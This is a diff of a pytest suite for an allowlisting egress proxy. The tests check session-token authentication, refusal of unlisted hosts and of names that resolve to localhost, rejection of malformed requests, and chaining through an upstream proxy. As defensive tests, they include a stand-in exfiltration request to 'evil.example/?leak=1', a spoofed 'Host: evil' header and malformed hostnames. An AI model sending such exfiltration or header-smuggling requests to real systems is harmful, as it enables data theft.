@@ -11,15 +11,15 @@ CONNECTED = b"HTTP/1.1 200 Connection established\r\n\r\n"
 
 
 def test_a_listed_host_is_reached_through_a_tunnel() -> None:
-    with server() as there, proxy(f"127.0.0.1:{there.port}") as (_, port):
-        assert tunnelled(port, "127.0.0.1", there.port) == b"hi"
+    with server() as there, proxy(f"127.0.0.1:{there.port}") as (_, way):
+        assert tunnelled(way, "127.0.0.1", there.port) == b"hi"
 
 
 def test_a_listed_host_is_asked_plainly_without_what_was_for_the_proxy() -> None:
-    with server() as there, proxy(f"127.0.0.1:{there.port}") as (_, port):
+    with server() as there, proxy(f"127.0.0.1:{there.port}") as (_, way):
         url = f"http://127.0.0.1:{there.port}/a?b=c"
-        headers = {"X-Mine": "1", "Proxy-Authorization": "Basic eA==", "Host": "evil"}
-        assert asked(port, url, **headers) == (200, "hi")
+        headers = {"X-Mine": "1", "Host": "evil"}
+        assert asked(way, url, **headers) == (200, "hi")
 
     head = there.heads[0].decode().split("\r\n")
     assert head[:3] == [
@@ -31,13 +31,26 @@ def test_a_listed_host_is_asked_plainly_without_what_was_for_the_proxy() -> None
     assert not [line for line in head if line.lower().startswith(("proxy", "host: e"))]
 
 
+@looped("shown", ["", "brat:another@", "x:{}@"])
+def test_who_does_not_show_the_sessions_token_is_sent_away(shown: str) -> None:
+    with server() as there, proxy(f"127.0.0.1:{there.port}") as (_, way):
+        before, _, after = way.removeprefix("http://").partition("@")
+        other = f"http://{shown.format(before.removeprefix('brat:'))}{after}"
+        with pytest.raises(OSError, match="407"):
+            tunnelled(other, "127.0.0.1", there.port)
+        assert asked(other, f"http://127.0.0.1:{there.port}/")[0] == 407
+        assert tunnelled(way, "127.0.0.1", there.port) == b"hi"
+
+    assert len(there.heads) == 1
+
+
 def test_who_is_not_listed_is_refused_with_a_reason_and_told_once() -> None:
-    with server() as there, proxy("pypi.org") as (gateway, port):
+    with server() as there, proxy("pypi.org") as (gateway, way):
         told = heard(gateway)
         for _ in range(2):
             with pytest.raises(OSError, match="403"):
-                tunnelled(port, "127.0.0.1", there.port)
-        status, why = asked(port, "http://evil.example/?leak=1")
+                tunnelled(way, "127.0.0.1", there.port)
+        status, why = asked(way, "http://evil.example/?leak=1")
 
     assert status == 403
     assert why == (
@@ -53,10 +66,10 @@ def test_who_is_not_listed_is_refused_with_a_reason_and_told_once() -> None:
 
 
 def test_a_listed_name_that_leads_to_this_machine_is_refused() -> None:
-    with server() as there, proxy(f"127.1:{there.port}") as (gateway, port):
+    with server() as there, proxy(f"127.1:{there.port}") as (gateway, way):
         told = heard(gateway)
         with pytest.raises(OSError, match="502"):
-            tunnelled(port, "127.1", there.port)
+            tunnelled(way, "127.1", there.port)
 
     assert told == [Refused(what=f"127.1:{there.port}, which leads to 127.0.0.1")]
     assert there.heads == []
@@ -65,40 +78,37 @@ def test_a_listed_name_that_leads_to_this_machine_is_refused() -> None:
 def test_a_listed_name_may_lead_to_an_address_that_is_listed_too() -> None:
     with server() as there:
         listed = (f"127.1:{there.port}", f"127.0.0.1:{there.port}")
-        with proxy(*listed) as (_, port):
-            assert tunnelled(port, "127.1", there.port) == b"hi"
+        with proxy(*listed) as (_, way):
+            assert tunnelled(way, "127.1", there.port) == b"hi"
 
 
 @looped("name", ["a" * 64, "a..b", "\xad", "a\0b", "xn--\x80"])
 def test_a_name_that_is_none_ends_its_own_connection_alone(name: str) -> None:
-    with proxy("*.example") as (gateway, port):
-        line = f"CONNECT {name}.example:443 HTTP/1.1\r\n\r\n"
-        assert b" 200 " not in said(port, line.encode("latin-1"))
-        assert said(port, b"CONNECT other:443 HTTP/1.1\r\n\r\n").startswith(
-            b"HTTP/1.1 403 "
-        )
+    with proxy("*.example") as (gateway, way):
+        assert b" 200 " not in said(way, f"CONNECT {name}.example:443 HTTP/1.1")
+        assert said(way, "CONNECT other:443 HTTP/1.1").startswith(b"HTTP/1.1 403 ")
         assert not gateway.over
 
 
 @looped(
     "text",
     [
-        b"GET / HTTP/1.1\r\nHost: pypi.org\r\n\r\n",
-        b"CONNECT pypi.org:port HTTP/1.1\r\n\r\n",
-        b"GET ftp://pypi.org/ HTTP/1.1\r\n\r\n",
-        b"\x16\x03\x01\x02\r\n\r\n",
-        b"GET http://[:80/ HTTP/1.1\r\n\r\n",
+        "GET / HTTP/1.1\r\nHost: pypi.org",
+        "CONNECT pypi.org:port HTTP/1.1",
+        "GET ftp://pypi.org/ HTTP/1.1",
+        "\x16\x03\x01\x02",
+        "GET http://[:80/ HTTP/1.1",
     ],
 )
-def test_what_is_no_request_to_a_proxy_is_told_so(text: bytes) -> None:
-    with proxy("pypi.org") as (gateway, port):
-        assert said(port, text).startswith(b"HTTP/1.1 400 Bad Request\r\n")
+def test_what_is_no_request_to_a_proxy_is_told_so(text: str) -> None:
+    with proxy("pypi.org") as (gateway, way):
+        assert said(way, text).startswith(b"HTTP/1.1 400 Bad Request\r\n")
         assert not gateway.over
 
 
 def test_a_listed_host_that_is_not_there_is_said() -> None:
-    with proxy("127.0.0.1:1") as (_, port):
-        status, why = asked(port, "http://127.0.0.1:1/")
+    with proxy("127.0.0.1:1") as (_, way):
+        status, why = asked(way, "http://127.0.0.1:1/")
 
     assert status == 502
     assert why.startswith("brat cannot reach 127.0.0.1:1: ")
@@ -106,10 +116,10 @@ def test_a_listed_host_that_is_not_there_is_said() -> None:
 
 def test_a_machines_own_proxy_is_gone_through() -> None:
     with server(CONNECTED + b"there") as above:
-        way = f"http://me:s%20cret@127.0.0.1:{above.port}"
-        with proxy("pypi.org", HTTPS_PROXY=way, HTTP_PROXY=way) as (_, port):
-            got = said(port, b"CONNECT pypi.org:443 HTTP/1.1\r\n\r\n")
-            asked(port, "http://pypi.org/simple")
+        own = f"http://me:s%20cret@127.0.0.1:{above.port}"
+        with proxy("pypi.org", HTTPS_PROXY=own, HTTP_PROXY=own) as (_, way):
+            got = said(way, "CONNECT pypi.org:443 HTTP/1.1")
+            asked(way, "http://pypi.org/simple")
 
     assert got == CONNECTED + b"there"
     tunnel, plain = (head.decode() for head in above.heads)
@@ -121,9 +131,9 @@ def test_a_machines_own_proxy_is_gone_through() -> None:
 
 def test_no_of_a_machines_own_proxy_is_said() -> None:
     with server(b"HTTP/1.1 407 No\r\n\r\n") as above:
-        way = f"http://127.0.0.1:{above.port}"
-        with proxy("pypi.org", HTTPS_PROXY=way) as (_, port):
-            got = said(port, b"CONNECT pypi.org:443 HTTP/1.1\r\n\r\n")
+        own = f"http://127.0.0.1:{above.port}"
+        with proxy("pypi.org", HTTPS_PROXY=own) as (_, way):
+            got = said(way, "CONNECT pypi.org:443 HTTP/1.1")
 
     assert got.startswith(b"HTTP/1.1 502 Bad Gateway\r\n")
     assert b"the machine's own proxy says b'HTTP/1.1 407 No" in got
